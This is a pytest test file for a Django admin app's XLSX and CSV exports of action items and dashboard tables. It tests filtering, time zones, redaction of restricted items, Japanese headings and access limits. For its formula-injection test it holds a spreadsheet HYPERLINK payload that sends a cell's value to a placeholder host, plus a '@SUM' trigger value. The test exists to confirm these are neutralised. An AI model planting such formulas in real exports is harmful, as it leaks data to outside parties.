"""Item lists and the dashboard as XLSX and CSV: the rows the list shows, headings in the reader's language, times
in Japan time, the restricted-marking rule, and cells that cannot become formulas."""

from __future__ import annotations

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse

from coordination import services
from coordination.models import ActionItem
from tests.conftest import DUE, JAPAN

pytestmark = pytest.mark.django_db
Status = ActionItem.Status
CHANGELIST = reverse("admin:coordination_actionitem_changelist")
INJECTION = '=HYPERLINK("http://example.invalid/?q="&A1,"Click")'


def workbook(response):
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    assert "attachment" in response["Content-Disposition"] and "no-store" in response["Cache-Control"]
    return openpyxl.load_workbook(io.BytesIO(response.content))


def rows_of(sheet):
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.fixture
def items(staff_world, move_to_status):
    world = staff_world
    made = {
        "plain": move_to_status(world.item, Status.IN_PROGRESS),
        "restricted": services.action_item_create(
            actor=world.coordinator,
            department=world.department,
            title="Sensitive negotiation line",
            lead_agency=world.mofa,
            due_date=DUE,
            marking="restricted",
            description="Only for the tracker",
        ),
        "injected": services.action_item_create(
            actor=world.coordinator,
            department=world.department,
            title=INJECTION,
            title_ja="演習計画",
            lead_agency=world.meti,
            due_date=DUE,
            description="@SUM(1+1)",
        ),
    }
    ActionItem.objects.filter(pk=made["plain"].pk).update(
        updated_at=datetime.datetime(2026, 6, 1, 23, 30, tzinfo=datetime.UTC)
    )
    return made


def test_the_filtered_list_exports_every_row_it_shows_with_japan_times(client, staff_world, items):
    client.force_login(staff_world.coordinator)
    listed = client.get(f"{CHANGELIST}?state=all&o=1")
    shown = [item.pk for item in listed.context["cl"].queryset]
    book = workbook(client.get(f"{CHANGELIST}?state=all&o=1&_export=xlsx"))
    rows = rows_of(book.active)
    headings, body = rows[0], rows[1:]
    assert headings[:4] == ["ID", "External id", "Department", "Title (English)"]
    assert [row[0] for row in body] == shown
    plain = next(row for row in body if row[0] == items["plain"].pk)
    in_japan = datetime.datetime(2026, 6, 2, 8, 30, tzinfo=JAPAN).replace(tzinfo=None)  # a cell holds no zone
    assert plain[headings.index("Last change")] == in_japan
    assert plain[headings.index("Status")] == "In progress"
    assert plain[headings.index("Supporting agencies (OCR)")] == "MOFA"
    # A filter narrows the export exactly as it narrows the list.
    only_meti = rows_of(
        workbook(client.get(f"{CHANGELIST}?lead_agency__id__exact={staff_world.meti.pk}&_export=xlsx")).active
    )
    assert [row[0] for row in only_meti[1:]] == [items["injected"].pk]


def test_a_restricted_item_leaves_only_its_id_titles_and_due_date(client, staff_world, items):
    client.force_login(staff_world.coordinator)
    rows = rows_of(workbook(client.get(f"{CHANGELIST}?_export=xlsx")).active)
    headings = rows[0]
    restricted = next(row for row in rows[1:] if row[0] == items["restricted"].pk)
    shown = {headings[n]: value for n, value in enumerate(restricted) if value != "—"}
    assert set(shown) == {"ID", "Title (English)", "Title (Japanese)", "Due date"}
    assert "Only for the tracker" not in str(restricted)


def test_formula_looking_cells_stay_text(client, staff_world, items):
    client.force_login(staff_world.coordinator)
    book = workbook(client.get(f"{CHANGELIST}?_export=xlsx"))
    sheet = book.active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value in (INJECTION, "@SUM(1+1)")]
    assert len(cells) == 2 and {cell.data_type for cell in cells} == {"s"}
    text = client.get(f"{CHANGELIST}?_export=csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert ["'" + INJECTION] == [value for row in rows for value in row if INJECTION in value]
    assert "'@SUM(1+1)" in [value for row in rows for value in row]


def test_a_japanese_reader_gets_japanese_headings_and_titles(client, staff_world, items):
    staff_world.coordinator.preferred_language = "ja"
    staff_world.coordinator.save(update_fields=["preferred_language"])
    client.force_login(staff_world.coordinator)
    text = client.get(f"{CHANGELIST}?_export=csv").content.decode("utf-8")
    assert text.startswith("\ufeff")  # spreadsheet programs read the file as UTF-8
    headings = next(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert "件名（日本語）" in headings and "状態" in headings
    assert "演習計画" in text


def test_the_selected_items_export_and_liaisons_export_only_what_they_see(client, staff_world, items):
    client.force_login(staff_world.coordinator)
    chosen = [items["plain"].pk, items["injected"].pk]
    response = client.post(CHANGELIST, {"action": "export_xlsx", "index": 0, "_selected_action": chosen})
    assert sorted(row[0] for row in rows_of(workbook(response).active)[1:]) == sorted(chosen)
    client.force_login(staff_world.lead_liaison)
    rows = rows_of(workbook(client.get(f"{CHANGELIST}?state=all&_export=xlsx")).active)
    assert [row[0] for row in rows[1:]] == [items["plain"].pk]  # MOD leads only the world's item


def test_an_unknown_export_format_or_filter_is_refused(client, staff_world, items):
    client.force_login(staff_world.coordinator)
    assert client.get(f"{CHANGELIST}?_export=pdf").status_code == 404
    assert client.get(f"{CHANGELIST}?overdue=maybe&_export=xlsx").status_code == 302


def test_the_dashboards_tables_export_with_the_dashboards_figures(client, staff_world, items):
    client.force_login(staff_world.coordinator)
    page = client.get(reverse("admin:index"))
    book = workbook(client.get(reverse("admin:dashboard_export") + "?format=xlsx"))
    assert book.sheetnames == ["By lead agency", "On-time completion", "Overdue by week", "Initiatives", "Meetings"]
    agencies = rows_of(book["By lead agency"])
    assert agencies[0][:3] == ["Agency", "Open", "Overdue"]
    shown = {row["agency"].code if row["agency"] else "All agencies": row for row in page.context["rows"]}
    for row in agencies[1:]:
        assert row[1:] == [cell.value for cell in shown[row[0]]["counts"]]
    assert len(rows_of(book["Overdue by week"])) == 13  # twelve Mondays and the headings
    csv_text = client.get(reverse("admin:dashboard_export") + "?format=csv&table=trend").content.decode("utf-8-sig")
    assert csv_text.splitlines()[0] == "Week starting,Overdue items"
    assert client.get(reverse("admin:dashboard_export") + "?format=csv").status_code == 404  # which table?
    client.force_login(staff_world.lead_liaison)
    assert client.get(reverse("admin:dashboard_export") + "?format=xlsx").status_code == 404
